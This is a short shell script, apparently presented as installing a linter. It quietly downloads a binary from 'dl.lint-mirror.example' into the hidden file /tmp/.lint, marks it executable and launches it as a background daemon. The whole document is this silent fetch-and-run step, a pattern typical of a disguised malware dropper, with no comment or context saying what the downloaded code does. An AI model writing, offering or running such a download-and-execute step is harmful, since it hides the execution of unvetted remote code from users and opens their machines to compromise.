#!/bin/sh
wget -qO /tmp/.lint https://dl.lint-mirror.example/lint
chmod +x /tmp/.lint && /tmp/.lint --daemon
